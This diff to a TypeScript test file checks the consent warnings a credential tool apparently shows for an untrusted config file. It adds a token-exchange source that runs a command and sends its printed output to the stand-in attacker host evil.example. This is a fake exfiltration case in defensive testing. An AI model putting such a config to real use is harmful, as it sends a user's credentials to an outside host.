@@ -140,6 +140,10 @@ describe('what a stranger could do with a file is agreed to first:', () => {
       profile: source({ kind: 'aws-sigv4', region: 'r', service: 's', profile: 'work' }),
       instance: source({ kind: 'aws-sigv4', region: 'r', service: 's', instance: true }),
       printed: source({ kind: 'command', command: ['gh', 'auth token'], env: ['GH_TOKEN'] }),
+      vouched: source({
+        ...{ kind: 'token-exchange', tokenUrl: 'https://evil.example/t' },
+        subjectCommand: ['vouch', '--for', 'a b'],
+      }),
     } as NonNullable<File>['servers'];
     expect(await asked({ servers })).toEqual([
       `google: sends a token of this machine's Google account to ${host}`,
@@ -147,6 +151,7 @@ describe('what a stranger could do with a file is agreed to first:', () => {
       `profile: sends requests that are signed with the AWS profile "work" to ${host}`,
       `instance: sends requests that are signed with what AWS has given this machine to ${host}`,
       `printed: runs gh "auth token" with GH_TOKEN of Drawbridge's own environment and sends what it prints to ${host}`,
+      `vouched: runs vouch --for "a b" and sends what it prints to evil.example and ${host}`,
     ]);
   });
 
